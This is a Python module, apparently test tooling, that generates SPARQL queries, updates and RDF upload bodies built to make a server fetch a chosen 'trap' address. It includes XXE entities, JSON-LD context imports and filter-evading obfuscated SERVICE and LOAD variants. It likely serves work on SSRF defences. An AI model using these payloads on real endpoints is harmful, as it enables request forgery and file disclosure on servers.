"""Ways to make a server fetch something. In: the address of a trap. Out: queries, updates and bodies of uploads."""

from __future__ import annotations


def queries(trap: str) -> list[str]:
    """Queries that would fetch the address, most of them written so that a careless reader does not see it."""
    group = "{ ?a ?b ?c }"
    prefix = f"PREFIX : <{trap}> PREFIX service: <{trap}> PREFIX true.service: <{trap}> "
    return [
        f"SELECT * {{ SERVICE <{trap}> {group} }}",
        f"SELECT * {{ SERVICE SILENT <{trap}> {group} }}",
        f"SELECT * {{ service silent<{trap}>{group} }}",
        f"SELECT * {{ SERVICESILENT <{trap}> {group} }}",
        f"SELECT * {{ ?s ?p 1SERVICE <{trap}> {group} }}",
        f"SELECT * {{ ?s ?p 1.SERVICE <{trap}> {group} }}",
        f"SELECT * {{ ?s ?p 1e5SERVICE <{trap}> {group} }}",
        f"SELECT * {{ ?s ?p trueSERVICE <{trap}> {group} }}",
        f"SELECT * {{ BIND(1 AS ?x)SERVICE <{trap}> {group} }}",
        f"SELECT * {{ VALUES ?x {{ <{trap}> }} SERVICE ?x {group} }}",
        f"SELECT * {{ VALUES ?x {{ <{trap}> }} SERVICE?x{group} }}",
        f"{prefix} SELECT * {{ SERVICE:x {group} }}",
        f"{prefix} SELECT * {{ SERVICE:x{group} }}",
        f"{prefix} SELECT * {{ SERVICESILENT:x {group} }}",
        f"{prefix} SELECT * {{ ?s ?p true.SERVICE:x {group} }}",
        f"{prefix} SELECT * {{ ?s ?p 1 .SERVICE:x {group} }}",
        f"{prefix} SELECT * {{ FILTER(1<2)SERVICE:x#>\n{group} }}",
        f"SELECT * {{ FILTER(?a<'b>')SERVICE <{trap}> {{ ?x ?y 'z' }} }}",
        f"{prefix} SELECT * {{ FILTER(?a<?b#>'''\n)SERVICE <{trap}> {{ ?x ?y '''z''' }} }}",
        f"SELECT * {{ ?s <http://e/\\u0041#> ?o . SERVICE <{trap}> {group} }}",
        f"SELECT * {{ ?s ?p 'it\\'s' . SERVICE <{trap}> {group} }}",
        f"SELECT * {{ # it's\n SERVICE <{trap}> {group} }}",
        f"SELECT * FROM <{trap}> {{ ?s ?p ?o }}",
        f"SELECT * FROM NAMED <{trap}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
        f"SELECT * {{ GRAPH <{trap}> {{ ?s ?p ?o }} }}",
        f"ASK {{ FILTER EXISTS {{ SERVICE <{trap}> {group} }} }}",
        f"CONSTRUCT {{ ?a ?b ?c }} WHERE {{ {{ SELECT * {{ SERVICE <{trap}> {group} }} }} }}",
        f"DESCRIBE <{trap}>",
        f"LOAD <{trap}>",
    ]


def updates(trap: str) -> list[str]:
    """Updates that would fetch the address."""
    group = "{ ?a ?b ?c }"
    prefix = f"PREFIX : <{trap}> PREFIX load: <{trap}> "
    return [
        f"LOAD <{trap}>",
        f"load silent <{trap}>",
        f"LOAD<{trap}>",
        f"LOADSILENT <{trap}>",
        f"LOADSILENT<{trap}> INTO GRAPH <http://e/g>",
        f"CLEAR ALL ; LOAD <{trap}>",
        f"CLEAR ALL;LOADSILENT<{trap}>",
        f"{prefix} LOAD:x",
        f"{prefix} CLEAR ALL;LOAD:x",
        f"{prefix} LOADSILENT:x",
        f"INSERT {{ ?a ?b ?c }} WHERE {{ SERVICE <{trap}> {group} }}",
        f"INSERT {{ ?a ?b ?c }} WHERE {{ SERVICESILENT <{trap}> {group} }}",
        f"INSERT {{ ?a ?b ?c }} USING <{trap}> WHERE {group}",
        f"WITH <{trap}> DELETE {{ ?a ?b ?c }} WHERE {group}",
    ]


def uploads(trap: str) -> list[tuple[str, str]]:
    """Media types and bodies of graphs that would fetch the address."""
    entity = f'<!DOCTYPE r [<!ENTITY x SYSTEM "{trap}">]>'
    rdf = '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="http://e/">'
    described = f'{rdf}<rdf:Description rdf:about="http://e/a"><e:b>&x;</e:b></rdf:Description></rdf:RDF>'
    return [
        ("application/ld+json", f'{{"@context": "{trap}", "@id": "http://e/a", "name": "x"}}'),
        ("application/ld+json", f'{{"@context": {{"@import": "{trap}"}}, "@id": "http://e/a"}}'),
        ("application/rdf+xml", entity + described),
        ("application/rdf+xml", f'<!DOCTYPE r SYSTEM "{trap}">' + described.replace("&x;", "y")),
        ("application/rdf+xml", f'<?xml-stylesheet href="{trap}"?>' + described.replace("&x;", "y")),
        ("text/turtle", f"@prefix e: <{trap}> . <{trap}> <http://www.w3.org/2002/07/owl#imports> <{trap}> ."),
    ]
